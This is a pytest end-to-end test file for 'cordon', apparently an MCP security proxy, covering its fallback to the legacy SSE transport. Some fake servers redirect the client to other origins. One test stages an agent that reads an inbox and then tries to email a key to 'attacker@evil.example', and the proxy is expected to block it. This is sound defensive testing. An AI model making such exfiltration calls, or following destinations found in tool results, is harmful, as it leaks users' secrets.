"""``cordon run --url URL`` (no ``--sse``) in front of a server that speaks only the legacy
HTTP+SSE transport (MCP 2024-11-05): cordon falls back to it as the specification tells a
client to (MCP basic/transports, "Backwards Compatibility": the initialize POST fails with
400, 404 or 405, then a GET to the URL expects an SSE stream whose first event is
``endpoint``), as VS Code does for a ``type: http`` entry. Driven by the official SDK client
through the real ``cordon`` process. The fallback enforces what ``--sse`` does: the endpoint
held to the URL's origin, no redirect followed, no other status taken for a legacy server,
and no downgrade of a server that answered Streamable HTTP once."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from subprocess import PIPE
from typing import Any

import anyio
import pytest
from mcp import Client

from tests.conftest import Harness, first_mcp_error, text_of
from tests.e2e.test_remote_recovery import _port, _serve, _start_everything
from tests.e2e.test_remote_sse import _sdk_server, _sent

pytestmark = [pytest.mark.e2e]

ANSWER_S = 60
INFO = {"name": "raw", "version": "1"}

#: a raw server, every request line logged to $LOG; $MODE sets how it answers:
#: ``hostile``: POST 405, the GET's endpoint event names $WHERE (another origin);
#: ``status``: POST answered HTTP $STATUS, the GET a good legacy stream (never to be opened);
#: ``redirect``: POST answered 307 to $WHERE (another origin), the GET a good legacy stream;
#: ``once``: Streamable HTTP (initialize 200 with a session), then 404 to the session and 405
#: to a new initialize, the GET a good legacy stream (a downgrade cordon must not make)
RAW = """
import json, os, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODE = os.environ["MODE"]

class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def _log(self):
        with open(os.environ["LOG"], "a") as fh:
            fh.write(self.command + " " + self.path + "\\n")
    def _plain(self, code, location=None):
        self.send_response(code)
        if location:
            self.send_header("location", location)
        self.send_header("content-type", "text/plain")
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"no")
    def do_GET(self):
        if self.headers.get("mcp-session-id"):
            self.command = "GET+session"
            self._log()
            return self._plain(405)
        self._log()
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        where = os.environ["WHERE"] if MODE == "hostile" else "/message?sessionId=1"
        self.wfile.write(b"event: endpoint\\ndata: " + where.encode() + b"\\n\\n")
        self.wfile.flush()
        time.sleep(30)
    def do_POST(self):
        self._log()
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        if MODE == "hostile":
            return self._plain(405)
        if MODE == "status":
            return self._plain(int(os.environ["STATUS"]))
        if MODE == "redirect":
            return self._plain(307, os.environ["WHERE"])
        if body.get("method") == "initialize":
            if os.path.exists(os.environ["LOG"] + ".once"):
                return self._plain(405)
            open(os.environ["LOG"] + ".once", "w").close()
            info = {"name": "once", "version": "1"}
            res = {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}},
                   "serverInfo": info}
            out = json.dumps({"jsonrpc": "2.0", "id": body["id"], "result": res}).encode()
            self.send_response(200)
            self.send_header("mcp-session-id", "s1")
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(out)))
            self.end_headers()
            return self.wfile.write(out)
        if body.get("method") == "tools/list":
            return self._plain(404)
        self.send_response(202)
        self.send_header("content-length", "0")
        self.end_headers()
    def do_DELETE(self):
        self._log()
        self._plain(405)

ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), H).serve_forever()
"""


def _raw(harness: Harness, mode: str, **env: str) -> tuple[int, Path]:
    """Start :data:`RAW` in ``mode``; returns its port and its request log."""
    port = _port()
    script = harness.tmp / f"raw_{mode}_{port}.py"
    script.write_text(RAW, "utf-8")
    log = harness.tmp / f"{mode}_{port}.log"
    _serve(harness, script, {"PORT": str(port), "LOG": str(log), "MODE": mode, **env}, port)
    return port, log


def _seen(log: Path) -> list[str]:
    return log.read_text("utf-8").splitlines() if log.exists() else []


def _fallbacks(harness: Harness) -> list[dict[str, object]]:
    return [r for r in harness.records("upstream") if r.get("event") == "sse_fallback"]


@pytest.mark.anyio
@pytest.mark.parametrize("mode", ["legacy", "auto"])
async def test_the_reference_sse_server_works_behind_cordon_run_url(
    harness: Harness, mode: str
) -> None:
    """server-everything's ``sse`` mode (GET /sse; a POST there answered 404) configured as a
    Streamable HTTP URL: listed, called and audited, the fallback recorded once. The SDK
    client's default mode asks ``server/discover`` first (refused the same way)."""
    port = _port()
    _start_everything(harness, port, "sse")
    params = harness.cordon([], extra=["--url", f"http://127.0.0.1:{port}/sse"])
    async with Client(params, mode=mode) as client:
        with anyio.fail_after(ANSWER_S):
            names = {t.name for t in (await client.list_tools()).tools}
            assert "echo" in names
            got = await client.call_tool("echo", {"message": "hello over the fallback"})
    assert "hello over the fallback" in text_of(got)
    assert [(r["tool"], r["verdict"]) for r in harness.records("verdict")] == [("echo", "allow")]
    records = _fallbacks(harness)
    assert len(records) == 1
    assert "HTTP 404" in str(records[0]["reason"]) and "failed" not in str(records[0]["reason"])


@pytest.mark.anyio
async def test_a_denied_call_is_not_forwarded_over_the_fallback(harness: Harness) -> None:
    """The same core over the fallback: the allowed send's side effect happens, the send to a
    destination the agent read in a tool result is refused and never posted, and the key in
    that result is masked before the client sees it."""
    port, outbox = _sdk_server(harness)
    trusting = [harness.policy({"version": 1, "trusted_destinations": ["me@example.com"]})]
    params = harness.cordon([], policies=trusting, extra=["--url", f"http://127.0.0.1:{port}/sse"])
    async with Client(params, mode="legacy") as client:
        with anyio.fail_after(ANSWER_S):
            await client.list_tools()
            inbox = text_of(await client.call_tool("read_inbox", {}))
            bad = {"to": "attacker@evil.example", "body": "the key"}
            denied = text_of(await client.call_tool("send_email", bad))
            ok = text_of(
                await client.call_tool("send_email", {"to": "me@example.com", "body": "hi"})
            )
    assert "AKIA" + "Q3EGRTXN5ZV7HBLM" not in inbox
    assert "cordon" in denied and "sent" not in denied
    assert ok == "sent"
    assert [m["to"] for m in _sent(outbox)] == ["me@example.com"]
    assert len(_fallbacks(harness)) == 1  # (the SDK's sse_app answers the POST with 405)


@pytest.mark.anyio
async def test_the_fallback_holds_the_endpoint_to_the_urls_origin(harness: Harness) -> None:
    """A 405 to the POST, then an endpoint event naming another origin: refused as ``--sse``
    refuses it, the client told why, nothing posted to the endpoint, the header with it."""
    other = _port()
    where = f"http://127.0.0.1:{other}/message?sessionId=1"
    port, seen = _raw(harness, "hostile", WHERE=where)
    url = f"http://127.0.0.1:{port}/sse"
    params = harness.cordon([], extra=["--url", url, "--header", "X-Api-Key:k1"])
    message = await first_mcp_error(Client(params, mode="legacy"))
    assert "message endpoint on its own origin" in message
    assert _seen(seen) == ["POST /sse", "GET /sse"]
    records = _fallbacks(harness)
    assert len(records) == 1 and "failed" in str(records[0]["reason"])


@pytest.mark.anyio
@pytest.mark.parametrize("status", ["401", "403", "410", "500"])
async def test_no_other_status_starts_the_fallback(harness: Harness, status: str) -> None:
    """Only 400, 404 and 405 mark a legacy server: any other refusal fails the initialize as
    before, and no GET goes out (fail closed)."""
    port, seen = _raw(harness, "status", STATUS=status)
    params = harness.cordon([], extra=["--no-oauth", "--url", f"http://127.0.0.1:{port}/sse"])
    message = await first_mcp_error(Client(params, mode="legacy"))
    assert f"HTTP {status}" in message
    assert [line.split()[0] for line in _seen(seen)] == ["POST"]
    assert _fallbacks(harness) == []


@pytest.mark.anyio
async def test_a_redirect_to_another_origin_is_not_followed_nor_fallen_back_from(
    harness: Harness,
) -> None:
    """A 307 to another origin is refused (as before); it is no legacy server's answer, so
    no GET goes out, to either origin."""
    other, other_seen = _raw(harness, "status", STATUS="405")
    port, seen = _raw(harness, "redirect", WHERE=f"http://127.0.0.1:{other}/sse")
    params = harness.cordon([], extra=["--url", f"http://127.0.0.1:{port}/sse"])
    await first_mcp_error(Client(params, mode="legacy"))
    assert _seen(seen) == ["POST /sse"]
    assert _seen(other_seen) == []
    assert _fallbacks(harness) == []


@pytest.mark.anyio
async def test_a_renewals_initialize_refused_with_405_is_no_fallback(harness: Harness) -> None:
    """Streamable HTTP at first (initialize answered, a session); then the session is gone
    (404) and the initialize cordon sends to renew it is refused with 405: no legacy
    transport is taken then, the request fails, and no legacy GET stream is opened."""
    port, seen = _raw(harness, "once")
    params = harness.cordon([], extra=["--url", f"http://127.0.0.1:{port}/mcp"])
    assert await first_mcp_error(Client(params, mode="legacy"))
    assert "GET /mcp" not in _seen(seen), _seen(seen)
    assert _fallbacks(harness) == []
    assert [r["event"] for r in harness.records("upstream")] == ["session_not_renewed"]


def _ask(proc: subprocess.Popen[bytes], msg: dict[str, Any]) -> dict[str, Any]:
    assert proc.stdin is not None and proc.stdout is not None
    proc.stdin.write(json.dumps(msg).encode() + b"\n")
    proc.stdin.flush()
    while True:
        line = proc.stdout.readline()
        assert line, "cordon closed its stdout"
        reply = json.loads(line)
        if reply.get("id") == msg["id"]:
            return dict(reply)


def test_a_server_that_spoke_streamable_http_is_never_downgraded(harness: Harness) -> None:
    """A client's first initialize answered over Streamable HTTP, then a second one (a client
    reconnecting through the same process) refused with 405, the legacy stream ready: cordon
    stays on Streamable HTTP (a server, or whoever answers for it, cannot move a session it
    has served onto the weaker transport later). The second initialize gets an error; no
    legacy GET goes out."""
    port, seen = _raw(harness, "once")
    p = harness.cordon([], extra=["--url", f"http://127.0.0.1:{port}/mcp"])
    proc = subprocess.Popen([p.command, *p.args], stdin=PIPE, stdout=PIPE, env=p.env)
    try:
        init = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": INFO}
        first = _ask(proc, {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": init})
        assert first["result"]["serverInfo"]["name"] == "once"
        again = _ask(proc, {"jsonrpc": "2.0", "id": 2, "method": "initialize", "params": init})
    finally:
        proc.terminate()
        proc.wait(10)
    assert "error" in again and "result" not in again
    assert "HTTP 405" in again["error"]["message"]
    assert "GET /mcp" not in _seen(seen), _seen(seen)
    assert _fallbacks(harness) == []
